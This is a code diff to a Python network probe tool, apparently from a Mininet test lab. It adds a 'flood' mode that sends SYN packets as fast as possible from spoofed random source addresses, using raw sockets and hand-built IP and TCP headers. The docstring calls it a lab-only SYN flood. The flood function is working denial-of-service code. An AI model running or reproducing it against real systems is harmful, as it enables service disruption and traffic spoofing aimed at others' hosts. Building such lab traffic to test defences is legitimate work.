@@ -3,6 +3,7 @@
     /usr/bin/python3 mininet/probe_client.py udp HOST PORT --sport S [--size N] [--echo]
     /usr/bin/python3 mininet/probe_client.py tcp-idle HOST PORT --sport S --idle SECONDS
     /usr/bin/python3 mininet/probe_client.py syn HOST PORT --sport S
+    /usr/bin/python3 mininet/probe_client.py flood HOST PORT --count N --spoof 10.0.0.128/25
 
 ``udp`` sends one datagram of ``--size`` bytes (a size above the MTU is
 fragmented by the sending kernel) from source port S and prints the first
@@ -10,7 +11,10 @@ line of the answer (with ``--echo`` it also checks that the answer carries
 the datagram back whole, and prints ``echo-ok``); ``tcp-idle`` connects from
 port S, stays idle ``--idle`` seconds, then sends an HTTP request and prints
 the answer's body; ``syn`` sends one bare TCP SYN from port S with a raw
-socket (no handshake follows: a half-open connection).  Exit 1 with a
+socket (no handshake follows: a half-open connection); ``flood`` sends
+``--count`` such SYNs as fast as it can, each from a random source address
+of ``--spoof`` and a random port (a SYN flood, for the lab only), and prints
+how many it sent per second.  Exit 1 with a
 one-line reason on a timeout or an error.  Standard library only.
 """
 
@@ -68,32 +72,53 @@ def _checksum(data):
     return ~total & 0xFFFF
 
 
+def _syn_segment(src, dst, sport, dport):
+    header = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0,
+                         5 << 4, 0x02, 64240, 0, 0)
+    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(
+        "!BBH", 0, socket.IPPROTO_TCP, len(header))
+    return header[:16] + struct.pack("!H", _checksum(pseudo + header)) + header[18:]
+
+
 def syn(args):
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
     sock.connect((args.host, args.port))
-    src = sock.getsockname()[0]
-    header = struct.pack("!HHIIBBHHH", args.sport, args.port, random.getrandbits(32), 0,
-                         5 << 4, 0x02, 64240, 0, 0)
-    pseudo = socket.inet_aton(src) + socket.inet_aton(args.host) + struct.pack(
-        "!BBH", 0, socket.IPPROTO_TCP, len(header))
-    header = header[:16] + struct.pack("!H", _checksum(pseudo + header)) + header[18:]
-    sock.send(header)
+    sock.send(_syn_segment(sock.getsockname()[0], args.host, args.sport, args.port))
     print("sent")
+
+
+def flood(args):
+    import ipaddress
+    net = ipaddress.IPv4Network(args.spoof)
+    first, size = int(net.network_address), net.num_addresses
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)   # IP_HDRINCL
+    dst = socket.inet_aton(args.host)
+    start = time.monotonic()
+    for i in range(args.count):
+        src = socket.inet_ntoa(struct.pack("!I", first + random.randrange(size)))
+        tcp = _syn_segment(src, args.host, random.randrange(1024, 65536), args.port)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64,
+                         socket.IPPROTO_TCP, 0, socket.inet_aton(src), dst)
+        sock.sendto(ip + tcp, (args.host, 0))
+    took = time.monotonic() - start
+    print(f"{args.count} {args.count / took:.0f}")
 
 
 def main(argv):
     ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    ap.add_argument("mode", choices=("udp", "tcp-idle", "syn"))
+    ap.add_argument("mode", choices=("udp", "tcp-idle", "syn", "flood"))
     ap.add_argument("host")
     ap.add_argument("port", type=int)
-    ap.add_argument("--sport", type=int, required=True)
+    ap.add_argument("--sport", type=int, default=40000)
+    ap.add_argument("--count", type=int, default=1000)
+    ap.add_argument("--spoof", default="10.0.0.128/25")
     ap.add_argument("--size", type=int, default=64)
     ap.add_argument("--echo", action="store_true")
     ap.add_argument("--idle", type=float, default=0.0)
     ap.add_argument("--timeout", type=float, default=5.0)
     args = ap.parse_args(argv[1:])
     try:
-        {"udp": udp, "tcp-idle": tcp_idle, "syn": syn}[args.mode](args)
+        {"udp": udp, "tcp-idle": tcp_idle, "syn": syn, "flood": flood}[args.mode](args)
     except (OSError, ValueError) as err:
         raise SystemExit(f"{args.mode} {args.host}:{args.port}: {err}") from None
 
